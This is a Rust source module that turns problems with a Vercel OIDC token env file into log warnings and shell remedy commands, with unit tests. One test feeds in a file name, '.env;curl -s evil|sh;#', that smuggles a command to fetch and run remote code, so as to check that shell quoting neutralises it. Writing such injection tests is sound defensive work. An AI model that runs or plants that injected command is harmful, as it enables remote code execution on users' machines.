//! What is wrong with the credential, in words: the log, the state, events and notices all say this.
//!
//! Nothing of a token ever stands in a warning, but what people call its project and its source.

use std::time::Duration;

use nix::unistd::Uid;
use tracing::{error, warn};

use super::env_file;
use crate::events;
use crate::os::clock::{Timestamp, spoken};
use crate::os::safe_read::{Cause, Flaw};
use crate::os::shell_quoting;
use crate::remedy::Remedy;

/// Brings a fresh token into the env file.
pub const PULL: &str = "vercel env pull";

/// Puts the Vercel CLI on `PATH`.
pub const INSTALL: &str = "npm install --global vercel";

/// Lets nobody but its owner read or write a file.
pub fn close_to_others(file: &str) -> Remedy {
    Remedy::run(format!("chmod 600 {}", shell_quoting::path(file)))
}

/// What mends a source of which the token cannot be used. Another token would be of no use where the file is to blame.
pub fn mends(flaw: &Flaw, source: &str) -> Remedy {
    let file = shell_quoting::path(source);
    match &flaw.cause {
        Cause::Content => Remedy::run(PULL),
        Cause::Encrypted => Remedy::run(format!("npx dotenvx decrypt -f {file}")),
        Cause::WritableByAll => close_to_others(source),
        Cause::UnreadableByOwner => Remedy::run(format!("chmod u+r {file}")),
        Cause::ClosedDirectory(dir) => {
            Remedy::run(format!("chmod u+rx {}", shell_quoting::path(&dir.display().to_string())))
        }
        Cause::Owner if Uid::effective().is_root() => {
            let command = format!("chown root {file}");
            Remedy::advice(format!("run the sidecar as the user who owns {source}, or run `{command}`"))
                .with_command(command)
        }
        Cause::Owner => {
            let command = format!("sudo chown \"$(id -u)\" {file}");
            Remedy::advice(format!("run `{command}`, or run the sidecar as the user who owns {source}"))
                .with_command(command)
        }
        Cause::Kind => {
            let aside = shell_quoting::path(&format!("{source}.old"));
            Remedy::run(format!("mv {file} {aside} && {PULL}"))
        }
        Cause::Size => Remedy::advice(format!("leave nothing but variables in {source}")),
        Cause::FileSystem => Remedy::advice(format!("check the disk or the mount that {source} is on")),
        Cause::Known(remedy) => remedy.clone(),
    }
}

/// Sets this machine's clock right.
pub fn set_clock() -> Remedy {
    Remedy::run(match cfg!(target_os = "macos") {
        true => "sudo sntp -sS time.apple.com",
        false => "sudo timedatectl set-ntp true",
    })
}

/// Something to act on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Warning {
    /// Names its kind for programs.
    pub code: &'static str,
    what: String,
    /// What mends it.
    pub remedy: Remedy,
}

impl Warning {
    /// The code of a missing token.
    pub const MISSING: &'static str = "oidc_token_missing";
    /// The code of a token that has ended.
    pub const EXPIRED: &'static str = "oidc_token_expired";

    fn new(code: &'static str, what: String, remedy: Remedy) -> Self {
        Self { code, what, remedy }
    }

    /// The token of a project ends after this time.
    pub fn expiring(project: &str, left: Duration) -> Self {
        let what = format!("the OIDC token of {project} expires in {}", spoken(left));
        Self::new("oidc_token_expiring", what, Remedy::run(PULL))
    }

    /// The token of a project ended this long ago.
    pub fn expired(project: &str, ago: Duration) -> Self {
        let what = format!("the OIDC token of {project} expired {} ago", spoken(ago));
        Self::new(Self::EXPIRED, what, Remedy::run(PULL))
    }

    /// There is no token in a source.
    pub fn missing(source: &str) -> Self {
        Self::new(Self::MISSING, format!("there is no OIDC token in {source}"), Remedy::run(PULL))
    }

    /// What a source holds is no token that could be sent.
    pub fn invalid(source: &str, flaw: &Flaw) -> Self {
        Self::new("oidc_token_invalid", format!("cannot use the token in {source}: {flaw}"), mends(flaw, source))
    }

    /// No fresh token comes by itself any more, after so many failures; `last` may mend the last of them.
    pub fn refresh_gave_up(failures: u32, last: &Remedy) -> Self {
        let last = last.command.as_ref().map(|command| format!(": `{command}` may help")).unwrap_or_default();
        let what = format!("gave up refreshing the OIDC token after {failures} failures in a row{last}");
        Self::new("refresh_gave_up", what, Remedy::run("connect-sidecar refresh"))
    }

    /// No fresh token comes by itself, since there is no Vercel CLI that could be run.
    pub fn refresh_unavailable(reason: &str) -> Self {
        let what = format!("the OIDC token cannot be refreshed: {reason}");
        Self::new("refresh_unavailable", what, Remedy::run(INSTALL))
    }

    /// The clock does not renew a token of a project that nobody has approved. Its ids, since names can be anybody's.
    pub fn refresh_held(project_id: &str, owner_id: &str) -> Self {
        let what = format!(
            "the OIDC token is not refreshed by itself: no request for {project_id} of {owner_id} was accepted yet, nor has \
             anybody confirmed it"
        );
        Self::new("refresh_held", what, Remedy::run("connect-sidecar refresh"))
    }

    /// The token acts elsewhere than where one develops; `None` if it is one of development.
    pub fn of_environment(environment: Option<&str>) -> Option<Self> {
        let environment = environment.unwrap_or("unknown");
        let what = format!("this token is of environment {environment}, not development: requests act there");
        (environment != "development")
            .then(|| Self::new("not_development", what, Remedy::run("vercel env pull --environment=development")))
    }

    /// Other users of the machine can read the file.
    pub fn readable_by_others(file: &str) -> Self {
        let what = format!("other users can read {file}");
        Self::new("env_file_readable_by_others", what, close_to_others(file))
    }

    /// The file says twice what the token is.
    pub fn duplicate_assignments(file: &str) -> Self {
        let what = format!("{file} assigns {} more than once, the last one is used", env_file::KEY);
        let remedy = Remedy::advice(format!("delete all but one of the lines with {}", env_file::KEY));
        Self::new("duplicate_assignments", what, remedy)
    }

    /// The file is mounted by itself, and another has taken its place where it came from.
    pub fn replaced(file: &str) -> Self {
        let what = format!("{file} was replaced outside, and the mount shows the old one: mount its directory instead");
        Self::new("env_file_replaced", what, Remedy::advice(format!("mount the directory of {file}, not the file")))
    }

    /// The machine's clock is not upstream's.
    pub fn clock_skew(by: Duration) -> Self {
        let what = format!("this machine's clock differs from upstream's by {}", spoken(by));
        Self::new("clock_skew", what, set_clock())
    }

    /// Whether requests fail now, or will and nothing is done about it: the log's level.
    fn is_error(&self) -> bool {
        [Self::EXPIRED, "refresh_gave_up", "refresh_unavailable"].contains(&self.code)
    }

    /// Says it in the log, of a project where one is known.
    pub fn say(&self, project: Option<&str>) {
        let (code, Remedy { hint, command }) = (self.code, &self.remedy);
        let (hint, command) = (&**hint, command.as_deref());
        if self.is_error() {
            error!(code, project, hint, command, "{}", self.line());
        } else {
            warn!(code, project, hint, command, "{}", self.line());
        }
    }

    /// For the log, with what mends it.
    pub fn line(&self) -> String {
        format!("{}, {}", self.what, self.remedy)
    }

    /// As an event of this project.
    pub fn told(&self, at: Timestamp, project: String) -> events::Warning {
        let (message, remedy) = (self.sentence(), self.remedy.clone());
        let level = if self.is_error() { "ERROR" } else { "WARN" };
        events::Warning { at, level, code: self.code, message, remedy, project }
    }

    /// For people, without what mends it, which stands beside it.
    pub fn sentence(&self) -> String {
        let mut rest = self.what.chars();
        let first = rest.next().map(|first| first.to_ascii_uppercase());
        first.into_iter().chain(rest).chain(['.']).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_log_and_the_state_say_the_same_each_in_its_way() {
        let warning = Warning::expiring("acme/web", Duration::from_secs(900));
        assert_eq!(warning.line(), "the OIDC token of acme/web expires in 15 min, run `vercel env pull`");
        assert_eq!(warning.sentence(), "The OIDC token of acme/web expires in 15 min.");
        let warning = Warning::duplicate_assignments(".env.local");
        let key = env_file::KEY;
        assert_eq!(warning.sentence(), format!(".env.local assigns {key} more than once, the last one is used."));
        assert!(warning.line().ends_with(&format!(", delete all but one of the lines with {key}")));
    }

    #[test]
    fn what_is_advised_mends_the_very_cause() {
        let known = Remedy::advice("x");
        for (cause, command) in [
            (Cause::Content, Some("vercel env pull")),
            (Cause::WritableByAll, Some("chmod 600 'my env'")),
            (Cause::UnreadableByOwner, Some("chmod u+r 'my env'")),
            (Cause::ClosedDirectory("/a b".into()), Some("chmod u+rx '/a b'")),
            (Cause::Kind, Some("mv 'my env' 'my env.old' && vercel env pull")),
            (Cause::Size, None),
            (Cause::FileSystem, None),
            (Cause::Known(known.clone()), None),
        ] {
            let remedy = mends(&Flaw::new("no good", cause.clone()), "my env");
            assert_eq!(remedy.command.as_deref(), command, "{cause:?}");
            let invalid = Warning::invalid("my env", &Flaw::new("no good", cause));
            assert_eq!(invalid.line(), format!("cannot use the token in my env: no good, {remedy}"));
        }
        let owner = mends(&Flaw::new("no good", Cause::Owner), "my env");
        assert!(owner.command.is_some_and(|command| command.contains("chown ") && command.ends_with(" 'my env'")));
        assert!(owner.hint.contains("as the user who owns my env"), "{}", owner.hint);
    }

    #[test]
    fn a_files_name_is_no_command_and_no_option() {
        for (file, hint) in [
            (".env.local", "chmod 600 .env.local"),
            (".env;curl -s evil|sh;#", "chmod 600 '.env;curl -s evil|sh;#'"),
            ("-R", "chmod 600 ./-R"),
        ] {
            assert_eq!(Warning::readable_by_others(file).remedy, Remedy::run(hint));
        }
    }
}
